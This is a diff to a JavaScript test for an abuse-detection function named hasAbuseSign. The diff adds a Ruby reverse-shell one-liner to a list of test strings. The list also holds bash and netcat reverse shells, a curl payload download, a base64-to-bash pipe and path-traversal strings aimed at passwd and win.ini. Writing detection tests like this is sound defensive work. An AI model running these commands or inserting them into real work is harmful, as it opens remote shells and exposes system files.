@@ -17,6 +17,7 @@ describe('hasAbuseSign', () => {
     '/..%2f..%2f..%2fetc/passwd',
     '../../../../windows/win.ini',
     'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
+    `ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("198.51.100.9",443))'`,
     'nc -e /bin/sh 198.51.100.9 4444',
     'curl -s http://198.51.100.44/i.sh -o /tmp/i',
     'echo aGk= | base64 -d | bash',
